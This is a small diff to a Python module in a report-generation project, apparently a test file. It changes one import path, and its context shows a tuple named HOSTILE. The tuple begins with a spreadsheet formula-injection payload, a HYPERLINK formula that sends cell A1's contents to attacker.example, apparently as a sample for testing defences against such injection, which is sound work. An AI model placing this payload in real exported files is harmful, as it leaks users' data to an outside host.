@@ -5,7 +5,7 @@ from __future__ import annotations
 from collections.abc import Callable
 from dataclasses import dataclass
 
-from reportgen.domain.plan import CandidateKind, FieldType, Role, Task
+from reportgen.domain.records.plan import CandidateKind, FieldType, Role, Task
 
 HOSTILE = (
     '=HYPERLINK("http://attacker.example/?x="&A1,"open")',
